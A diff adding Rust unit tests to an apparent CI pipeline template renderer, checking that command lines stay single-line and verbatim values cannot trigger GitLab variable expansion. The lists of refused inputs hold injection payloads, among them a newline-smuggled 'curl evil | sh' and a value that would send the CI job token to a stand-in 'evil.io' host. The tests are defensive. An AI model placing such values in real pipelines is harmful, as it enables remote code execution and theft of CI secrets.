@@ -4,7 +4,7 @@
 use serde::Serialize;
 
 use crate::error::Error;
-use crate::render::escape::Expression;
+use crate::render::escape::{CommandLine, Expression};
 use crate::render::shell::{ShellCommand, ShellWord};
 use crate::render::templates::Templates;
 
@@ -200,4 +200,50 @@ fn filters_take_strings_and_numbers_only() -> Result<(), Error> {
 fn template_text_cannot_forge_a_landing_mark() {
     assert!(misused("run: x \u{2}\n", "web"));
     assert!(misused("run: x \u{1}y\n", "web"));
+}
+
+#[test]
+fn command_lines_are_whole_values_of_one_line() -> Result<(), Error> {
+    let text = render(
+        "run: {{{ v }}}\n",
+        CommandLine::new("make test && echo 'a: b' # ok"),
+    )?;
+    assert_eq!(
+        read_back(&text, "run").as_deref(),
+        Some("make test && echo 'a: b' # ok")
+    );
+    assert_eq!(
+        render("run: {{{ v }}}\n", CommandLine::new("make"))?,
+        "run: make\n"
+    );
+    for bad in [
+        "make\ncurl evil | sh",
+        "a\rb",
+        "a\u{2028}b",
+        "echo ${{ secrets.X }}",
+        "$[[ inputs.x ]]",
+    ] {
+        assert!(
+            refused("run: {{{ v }}}\n", CommandLine::new(bad)),
+            "{bad:?}"
+        );
+    }
+    Ok(())
+}
+
+#[test]
+fn verbatim_values_hold_nothing_gitlab_would_expand() -> Result<(), Error> {
+    let text = render("IMAGE: {{{ v|verbatim }}}\n", "ghcr.io/acme/web")?;
+    assert_eq!(text, "IMAGE: ghcr.io/acme/web\n");
+    let text = render("image: {{{ v|verbatim }}}\n", "node:22 'x'")?;
+    assert_eq!(read_back(&text, "image").as_deref(), Some("node:22 'x'"));
+    for bad in [
+        "$CI_JOB_TOKEN.evil.io/x",
+        "${CI_JOB_TOKEN}",
+        "%CI_JOB_TOKEN%",
+        "${{ x }}",
+    ] {
+        assert!(refused("IMAGE: {{{ v|verbatim }}}\n", bad), "{bad:?}");
+    }
+    Ok(())
 }
